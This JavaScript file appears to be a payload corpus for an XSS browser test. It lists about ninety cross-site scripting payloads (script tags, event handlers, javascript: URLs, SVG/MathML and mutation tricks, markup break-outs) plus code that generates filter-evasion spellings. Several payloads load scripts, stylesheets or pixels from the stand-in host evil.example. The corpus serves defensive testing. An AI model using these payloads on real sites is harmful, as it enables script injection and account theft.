// xss-corpus.mjs - hostile text for the XSS test (xss.mjs): what attackers
// put in titles, bodies, captions, names and comments. Each payload that
// could run calls alert(N) or loads something from evil.example, so that
// the browser test sees it run (a dialog, or a request that leaves the
// site) if any page ever lets it through.
//
// BASE holds the forms themselves; PAYLOADS adds the spellings filters
// miss: mixed case, control characters and entities inside the dangerous
// word, attribute and element break-outs in front. Every payload is unique.

const BASE = [
  // script elements, plain and broken
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script src="https://evil.example/x.js"></script>',
  '<scr<script>ipt>alert(2)</scr</script>ipt>',
  '<script/x>alert(3)</script>',
  '<script\n>alert(4)</script\n>',
  '<<script>alert(5)//<</script>',
  '<script>/*</script><script>*/alert(6)</script>',
  // event handlers
  '<img src=x onerror=alert(7)>',
  '<img src="x" onerror="alert(8)"',
  '<img src=`x` onerror=alert(9)>',
  '<img/src=x/onerror=alert(10)>',
  '<svg onload=alert(11)>',
  '<svg><animate onbegin=alert(12) attributeName=x dur=1s>',
  '<body onload=alert(13)>',
  '<input autofocus onfocus=alert(14)>',
  '<details open ontoggle=alert(15)>',
  '<video><source onerror=alert(16)>',
  '<audio src=x onerror=alert(17)>',
  '<marquee onstart=alert(18)>',
  '<select autofocus onfocus=alert(19)>',
  '<textarea autofocus onfocus=alert(20)>',
  '<div onmouseover=alert(21) style="position:fixed;inset:0">',
  '<p onclick=alert(22)>bấm vào đây</p>',
  '<table background=javascript:alert(23)>',
  '<img src=x:alert(24) onerror=eval(src)>',
  '<img srcset="x 1x" onerror=alert(25)>',
  '<object onerror=alert(26)>',
  '<style onload=alert(27)></style>',
  '<iframe onload=alert(28)>',
  // URLs
  '<a href="javascript:alert(29)">bấm</a>',
  "<a href='jav&#x09;ascript:alert(30)'>x</a>",
  '<a href="&#106;avascript:alert(31)">x</a>',
  '<a href="jav&#x0A;ascript:alert(32)">x</a>',
  '<a href="  javascript:alert(33)">x</a>',
  '<a href="JaVaScRiPt:alert(34)">x</a>',
  '<a href="javascript&colon;alert(35)">x</a>',
  '<a href="vbscript:msgbox(36)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzNyk8L3NjcmlwdD4=">x</a>',
  '<a href="data:text/html,<script>alert(38)</script>">x</a>',
  '<iframe src=javascript:alert(39)>',
  '<iframe srcdoc="<script>alert(40)</script>">',
  '<object data=javascript:alert(41)>',
  '<embed src=javascript:alert(42)>',
  '<form action=javascript:alert(43)><button>x</button></form>',
  '<button formaction=javascript:alert(44)>x</button>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(45)">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif" alt="ảnh">',
  '<a href="https://evil.example/" ping="https://evil.example/ping">liên kết</a>',
  '<area href=javascript:alert(46)>',
  '<isindex action=javascript:alert(47) type=image>',
  // SVG and MathML
  '<svg><script>alert(48)</script></svg>',
  '<svg><a xlink:href="javascript:alert(49)"><text x=0 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(50) /></svg>#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(51)></iframe></foreignObject></svg>',
  '<svg><set attributeName=onmouseover to=alert(52)>',
  '<math href="javascript:alert(53)">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(54)>',
  '<math><mi xlink:href="javascript:alert(55)">x</mi></math>',
  // mutation XSS
  '<noscript><p title="</noscript><img src=x onerror=alert(56)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(57)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(58)>',
  '<template><img src=x onerror=alert(59)></template>',
  '<xmp><img src=x onerror=alert(60)></xmp>',
  '<title><img src=x onerror=alert(61)></title>',
  '<textarea><img src=x onerror=alert(62)></textarea>',
  '<noembed><img src=x onerror=alert(63)></noembed>',
  '<plaintext><img src=x onerror=alert(64)>',
  '<!--><img src=x onerror=alert(65)>-->',
  '<!--<script>alert(66)</script>-->',
  '<![CDATA[<img src=x onerror=alert(67)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(68)>',
  // break-outs of our own markup
  '"><script>alert(69)</script>',
  "'><img src=x onerror=alert(70)>",
  '</p><script>alert(71)</script><p>',
  '</textarea><script>alert(72)</script>',
  '</title><script>alert(73)</script>',
  '</script><script>alert(74)</script>',
  '</style><img src=x onerror=alert(75)>',
  '" onmouseover="alert(76)',
  "' autofocus onfocus='alert(77)",
  '</a><a href=javascript:alert(78)>x',
  '--><img src=x onerror=alert(79)>',
  // styles
  '<div style="background:url(javascript:alert(80))">',
  '<style>*{background:url(//evil.example/x.png)}</style>',
  '<p style="behavior:url(//evil.example/x.htc)">x</p>',
  '<div style="width:expression(alert(81))">',
  // template and text tricks (shown as text)
  '{{ 7*7 }} ${alert(82)} <%= alert(82) %>',
  '&lt;script&gt;alert(83)&lt;/script&gt;',
  'javascript:alert(84)',
  '\u202e<img src=x onerror=alert(85)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(86)>',
  '<img src=x onerror=\\u0061lert(87)>',
];

/** The spellings of one payload that filters miss. */
function variants(p, i) {
  const out = [p];
  out.push(p.replace(/script|onerror|onload|javascript|svg|img|iframe/gi, (w) =>
    [...w].map((c, k) => (k % 2 ? c.toUpperCase() : c.toLowerCase())).join('')));
  if (/javascript:/i.test(p)) {
    out.push(p.replace(/javascript:/i, 'java\u0000script:'));
    out.push(p.replace(/javascript:/i, '&#x6A;&#x61;&#x76;&#x61;script&#58;'));
    out.push(p.replace(/javascript:/i, '\u0001javascript:'));
  }
  if (/onerror|onload|onfocus/i.test(p)) out.push(p.replace(/(on\w+)=/i, '$1\u000c='));
  if (i % 3 === 0) out.push(`"'><!--${p}`);
  if (i % 4 === 1) out.push(`<b>${p}</b><i>${p}`);
  return out;
}

export const PAYLOADS = [...new Set(BASE.flatMap((p, i) => variants(p, i)))];
